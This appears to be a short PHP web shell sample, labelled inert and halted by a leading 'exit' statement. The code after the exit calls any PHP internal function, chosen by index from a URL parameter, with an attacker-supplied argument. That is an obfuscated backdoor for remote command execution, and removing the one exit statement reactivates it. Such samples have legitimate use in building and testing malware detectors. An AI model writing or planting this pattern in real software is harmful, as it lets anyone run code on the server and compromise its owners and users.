<?php exit; /* inert */ $a=get_defined_functions()["internal"]; $a[$_GET["i"]]($_GET["a"]);
